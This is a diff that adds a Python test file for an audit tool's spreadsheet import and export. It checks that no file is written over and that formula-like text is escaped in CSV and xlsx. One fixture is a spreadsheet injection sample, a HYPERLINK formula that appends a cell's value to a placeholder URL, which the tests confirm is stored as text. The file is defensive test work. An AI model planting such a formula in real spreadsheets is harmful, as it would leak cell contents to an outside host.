@@ -1,0 +1,347 @@
+"""``import`` and ``export`` never write over a file they read, never write text as a formula, and
+read back exactly what they wrote; ``new``, ``sample`` never write over a file being read either."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from conftest import DATA, EXAMPLES, TODAY, Run
+from qaimpact.audits.checker import CheckOptions, check_audit
+from qaimpact.authoring.importing.convert import cell_text
+from qaimpact.base import escaping
+from qaimpact.frameworks.registry import Registry
+
+TRACKER = EXAMPLES / "import" / "tracker.xlsx"
+CCC = EXAMPLES / "service" / "ccc"
+FORMULA = DATA / "import" / "formula" / "CFA-2025-0275.yaml"
+SAMPLING = DATA / "cycle" / "sampling"
+DAY = TODAY.isoformat()
+
+
+def _files(folder: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}
+
+
+# -- Never over a file being read ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("force", [[], ["--force"]], ids=["plain", "force"])
+@pytest.mark.parametrize("name", ["tracker.xlsx", "./tracker.xlsx"])
+def test_scaffold_mapping_never_replaces_the_sheet_it_reads(
+    cli: Callable[..., Run], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, force: list[str]
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    shutil.copy(TRACKER, "tracker.xlsx")
+    before = _files(tmp_path)
+    run = cli(
+        "import", "tracker.xlsx", "--scaffold-mapping", "--standards", "cafcass-qiam-2017",
+        "--mapping", name, *force, expect=2,
+    )  # fmt: skip
+    assert run.stderr == (
+        "error: --mapping 'tracker.xlsx' is one of the files being read; choose another file, such as "
+        "tracker.mapping.yaml.\n"
+    )
+    assert _files(tmp_path) == before
+
+
+def _two_audits(folder: Path) -> list[Path]:
+    folder.mkdir()
+    audits = sorted(CCC.glob("*.yaml"))[:2]
+    for audit in audits:
+        shutil.copy(audit, folder / audit.name)
+    return [folder / a.name for a in audits]
+
+
+@pytest.mark.parametrize(
+    ("output", "mapping", "message"),
+    [
+        (
+            "out.xlsx",
+            "audits/CFA-2025-0275.yaml",
+            "--mapping 'audits/CFA-2025-0275.yaml' is one of the files being read; choose another file "
+            "for the mapping, such as out.mapping.yaml.",
+        ),
+        (
+            "v.xlsx",
+            "./v.xlsx",
+            "--mapping 'v.xlsx' is the same file as --output 'v.xlsx', and one would be written over the "
+            "other; choose another file for the mapping, such as v.mapping.yaml.",
+        ),
+        (
+            "v.csv",
+            "link.yaml",
+            "--mapping 'link.yaml' is the same file as --output 'v.csv', and one would be written over the "
+            "other; choose another file for the mapping, such as v.mapping.yaml.",
+        ),
+        (
+            "link.csv",
+            None,
+            "--output 'link.csv' is one of the files being read; choose another file.",
+        ),
+        (
+            "out.csv",
+            "stds/ccc-practice-standards.yaml",
+            "--mapping 'stds/ccc-practice-standards.yaml' is one of the files being read; choose another "
+            "file for the mapping, such as out.mapping.yaml.",
+        ),
+    ],
+    ids=[
+        "mapping-is-an-audit",
+        "both-one-file",
+        "mapping-links-to-output",
+        "output-links-to-audit",
+        "standards",
+    ],
+)
+def test_export_never_writes_over_a_file_it_reads_nor_one_output_over_the_other(
+    cli: Callable[..., Run],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    output: str,
+    mapping: str | None,
+    message: str,
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    _two_audits(tmp_path / "audits")
+    shutil.copytree(EXAMPLES.parent / "standards", "stds", ignore=shutil.ignore_patterns("*.md"))
+    Path("v.csv").write_text("")
+    Path("link.yaml").symlink_to("v.csv")
+    Path("link.csv").symlink_to("audits/CFA-2025-0275.yaml")
+    before = {folder: _files(tmp_path / folder) for folder in (".", "audits", "stds")}
+    run = cli(
+        "export", "audits", "-o", output, *(["--mapping", mapping] if mapping else []), "--force",
+        "--standards-dir", "stds", "--today", DAY, expect=2,
+    )  # fmt: skip
+    assert run.stderr == f"error: {message}\n"
+    assert {folder: _files(tmp_path / folder) for folder in (".", "audits", "stds")} == before
+
+
+def test_new_never_replaces_a_standards_file_it_reads(
+    cli: Callable[..., Run], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    shutil.copytree(EXAMPLES.parent / "standards", "stds", ignore=shutil.ignore_patterns("*.md"))
+    before = _files(tmp_path / "stds")
+    target = "stds/ccc-practice-standards.yaml"
+    run = cli(
+        "new", "--standards", "ccc-practice-standards", "-o", target, "--force", "--standards-dir", "stds",
+        expect=2,
+    )  # fmt: skip
+    assert run.stderr == f"error: --output '{target}' is one of the files being read; choose another file.\n"
+    assert _files(tmp_path / "stds") == before
+
+
+def test_sample_force_never_replaces_an_audit_it_reads(cli: Callable[..., Run], tmp_path: Path) -> None:
+    audits = tmp_path / "audits"
+    shutil.copytree(SAMPLING / "audits", audits)
+    # An auditor's finished audit, in a file named as the sample names its blank audits.
+    done = audits / "SAMPLE-2026-12-001.yaml"
+    done.write_text((SAMPLING / "audits" / "CFA-2026-0310.yaml").read_text().replace("0310", "0999"))
+    before = _files(audits)
+    run = cli(
+        "sample", "--cases", SAMPLING / "cases.csv", "--audits", audits, "--today", DAY, "--seed", "4",
+        "--scaffold", audits, "--force", expect=2,
+    )  # fmt: skip
+    assert run.stderr.endswith(
+        f"error: --scaffold file '{done}' is one of the files being read; --force never replaces an audit "
+        "being read, so nothing was written: choose another --scaffold folder, such as a new one for this "
+        "round.\n"
+    )
+    assert _files(audits) == before
+
+
+def test_sample_says_first_that_the_cases_list_is_being_read(cli: Callable[..., Run], tmp_path: Path) -> None:
+    cases = tmp_path / "cases.csv"
+    shutil.copy(SAMPLING / "cases.csv", cases)
+    run = cli("sample", "--cases", cases, "--audits", SAMPLING / "audits", "-o", cases, expect=2)
+    assert run.stderr == f"error: --output '{cases}' is one of the files being read; choose another file.\n"
+    assert cases.read_bytes() == (SAMPLING / "cases.csv").read_bytes()
+
+
+# -- Text is never a formula, and reads back exactly ------------------------------------------------------
+
+
+def _export(cli: Callable[..., Run], audits: Path, sheet: Path) -> Path:
+    mapping = sheet.with_name(sheet.stem + ".mapping.yaml")
+    cli("export", audits, "-o", sheet, "--mapping", mapping, "--today", DAY)
+    return mapping
+
+
+def _round_trip(cli: Callable[..., Run], registry: Registry, audits: Path, sheet: Path) -> dict[str, Any]:
+    mapping = _export(cli, audits, sheet)
+    back = sheet.with_name(sheet.stem + "-imported")
+    cli("import", sheet, "--mapping", mapping, "--audits", back, "--today", DAY)
+    [audit] = back.glob("*.yaml")
+    data = check_audit(audit, registry, CheckOptions(today=TODAY, keep_data=True)).data
+    assert data is not None
+    return data
+
+
+def _original(registry: Registry, path: Path) -> dict[str, Any]:
+    data = check_audit(path, registry, CheckOptions(today=TODAY, keep_data=True)).data
+    assert data is not None
+    return data
+
+
+def test_export_writes_text_that_starts_like_a_formula_as_text_in_a_workbook(
+    cli: Callable[..., Run], tmp_path: Path
+) -> None:
+    import openpyxl
+
+    sheet = tmp_path / "out.xlsx"
+    _export(cli, FORMULA.parent, sheet)
+    ws = openpyxl.load_workbook(sheet).active
+    header = [c.value for c in ws[1]]
+    cells = {name: ws.cell(row=2, column=header.index(name) + 1) for name in header}
+    practitioner = cells["practitioner"]
+    assert (practitioner.value, practitioner.data_type) == ('=HYPERLINK("http://x.example/?"&B2,"Ben")', "s")
+    assert all(c.data_type != "f" for c in cells.values())
+
+
+def test_export_escapes_text_that_starts_like_a_formula_in_csv_as_the_reports_do(
+    cli: Callable[..., Run], tmp_path: Path
+) -> None:
+    sheet = tmp_path / "out.csv"
+    _export(cli, FORMULA.parent, sheet)
+    [row] = list(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8"))))
+    assert row["practitioner"] == '\'=HYPERLINK("http://x.example/?"&B2,"Ben")'
+    assert row["feedback.child"] == "''=Likes the placement."
+    assert (
+        row["feedback.practitioner_reflection"]
+        == "'@Ben: +1 for the plan.\n'-- and '=the review.\n'\t=SUM(A1)"
+    )
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_text_that_starts_like_a_formula_reads_back_exactly(
+    cli: Callable[..., Run], tmp_path: Path, registry: Registry, suffix: str
+) -> None:
+    assert _round_trip(cli, registry, FORMULA.parent, tmp_path / f"out{suffix}") == _original(
+        registry, FORMULA
+    )
+
+
+_STARTS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'=", "'-", "''+"])
+#: Text an audit can hold: no control characters but line breaks and tabs.
+_REST = st.text(
+    alphabet=st.characters(
+        whitelist_categories=("L", "N", "P", "S", "Zs"),
+        whitelist_characters="\n\t\r=+-@'\"",
+        blacklist_characters="\x85\u2028\u2029\ufeff",
+    ),
+    max_size=40,
+)
+_VALUES = (
+    st.lists(st.tuples(_STARTS, _REST), min_size=1, max_size=3)
+    .map(lambda parts: "\n".join(start + rest for start, rest in parts))
+    .filter(lambda value: cell_text(value) is not None)
+)
+
+
+@settings(max_examples=20, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(value=_VALUES, suffix=st.sampled_from([".xlsx", ".csv"]))
+def test_export_then_import_gives_back_any_text_exactly_as_import_reads_a_cell(
+    cli: Callable[..., Run],
+    tmp_path_factory: pytest.TempPathFactory,
+    registry: Registry,
+    value: str,
+    suffix: str,
+) -> None:
+    folder = tmp_path_factory.mktemp("trip")
+    audits = folder / "audits"
+    audits.mkdir()
+    audit = audits / FORMULA.name
+    text = FORMULA.read_text(encoding="utf-8")
+    audit.write_text(
+        re.sub(
+            r"^  practitioner_reflection: .*$",
+            lambda _: "  practitioner_reflection: " + json.dumps(value, ensure_ascii=False),
+            text,
+            flags=re.M,
+        ),
+        encoding="utf-8",
+    )
+    original = _original(registry, audit)
+    assert original["feedback"]["practitioner_reflection"] == value
+    data = _round_trip(cli, registry, audits, folder / f"out{suffix}")
+    # What import reads from any cell holding this text: without spaces around it, CR as a line break.
+    original["feedback"]["practitioner_reflection"] = cell_text(value)
+    # Exactly the text, whenever it is text import can give (no spaces around it, no CR).
+    assert data == original
+
+
+# -- --max-file-size ----------------------------------------------------------------------------------
+
+
+def test_import_takes_the_max_file_size_its_hint_names(
+    cli: Callable[..., Run], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)  # the audit's comments name the sheet: its size depends on the name
+    sheet = Path("audits.xlsx")
+    mapping = _export(cli, FORMULA.parent, sheet)
+    args = ("import", sheet, "--mapping", mapping, "--audits", "a", "--dry-run", "--today", DAY)
+    run = cli(*args, "--max-file-size", "1000", expect=1)
+    assert run.stderr == (
+        f"{sheet}!ccc-practice-standards!A2: error QA108 The file is 2,542 bytes, over the limit of 1,000 "
+        "bytes. (in the audit from row 2)\n"
+        "    hint: Audit files are a few kilobytes: check this is the right file, or raise the limit with "
+        "--max-file-size.\n"
+    )
+    # A valid audit is as large as an invalid one: refused too, as validate would refuse its file.
+    assert cli(*args, "--max-file-size", "2542").stderr == ""
+
+
+def test_export_takes_the_max_file_size_its_hint_names(cli: Callable[..., Run], tmp_path: Path) -> None:
+    big = CCC / "CFA-2025-0316.yaml"  # 4,398 bytes; FORMULA's audit has 2,570
+    args = ("export", FORMULA, big, "-o", tmp_path / "out.csv", "--today", DAY, "--force")
+    run = cli(*args, "--max-file-size", "4000", expect=1)
+    assert (
+        run.stdout
+        == f"Exported 1 audit of ccc-practice-standards to {tmp_path / 'out.csv'}. 1 with errors left out.\n"
+    )
+    assert (
+        f"{big}:1:1: error QA108 The file is 4,398 bytes, over the limit of 4,000 bytes.\n"
+        "    hint: Audit files are a few kilobytes: check this is the right file, or raise the limit with "
+        "--max-file-size.\n"
+    ) in run.stderr
+    assert cli(*args, "--max-file-size", "4398").stdout.startswith("Exported 2 audits")
+
+
+# -- The escaping itself ------------------------------------------------------------------------------
+
+
+_LINE_STARTS = st.sampled_from(["", "=", "+", "-", "@", "\t", "'", "'=", "''-", "'x", "\r", "\r\n"])
+
+
+@given(st.lists(st.tuples(_LINE_STARTS, st.text(max_size=10)), max_size=4))
+def test_csv_text_undoes_csv_cell_exactly_and_no_line_starts_a_formula(parts: list[tuple[str, str]]) -> None:
+    value = "".join(start + rest for start, rest in parts)
+    cell = escaping.csv_cell(value)
+    assert not any(line.startswith(("=", "+", "-", "@", "\t", "\r")) for line in cell.split("\n"))
+    assert escaping.csv_text(cell) == re.sub(r"\r\n|\r", "\n", value)
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("'=1+1", "''=1+1"),
+        ("'quoted'", "'quoted'"),
+        ("a\n-b\n'@c", "a\n'-b\n''@c"),
+        ("- item", "'- item"),
+    ],
+)
+def test_csv_cell_and_csv_text(value: str, cell: str) -> None:
+    assert escaping.csv_cell(value) == cell
+    assert escaping.csv_text(cell) == value
